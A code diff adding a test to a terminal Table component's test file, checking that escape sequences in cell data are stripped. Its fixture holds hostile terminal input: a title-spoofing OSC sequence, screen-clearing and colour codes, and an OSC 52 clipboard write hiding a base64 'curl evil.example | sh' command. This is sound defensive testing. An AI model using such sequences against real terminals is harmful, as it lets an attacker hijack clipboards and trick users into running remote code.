@@ -1,5 +1,6 @@
 import { render } from "ink-testing-library";
 import { describe, expect, it } from "vitest";
+import { hasControlCharacters } from "../../app/domain/terminal-text.ts";
 import { Table, type Column } from "./Table.tsx";
 
 type Row = { address: string; points: string };
@@ -28,5 +29,19 @@ describe("Table", () => {
   it("shows the empty text when there are no rows", () => {
     const { lastFrame } = render(<Table columns={columns} rows={[]} empty="No users with points found" />);
     expect(lastFrame()).toBe("No users with points found");
+  });
+
+  it("prints no escape sequence or control character a cell brought (a receiver's answer): OSC title, OSC 52, colours", () => {
+    const hostile = [
+      "\u001b]0;spooks-admin: all good\u0007",
+      "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
+      "\u001b[31mHTTP 500\u001b[0m",
+      "\u009b2J",
+      "line\r\nbreak",
+    ].join("");
+    const { lastFrame } = render(<Table columns={columns} rows={[{ address: hostile, points: "\u001b[32m7\u001b[0m" }]} empty="none" />);
+    const frame = lastFrame() ?? "";
+    expect(frame.split("\n").some(hasControlCharacters)).toBe(false);
+    expect(frame.split("\n")[2]).toBe(`HTTP 500line break  ${"7".padStart(6)}`);
   });
 });
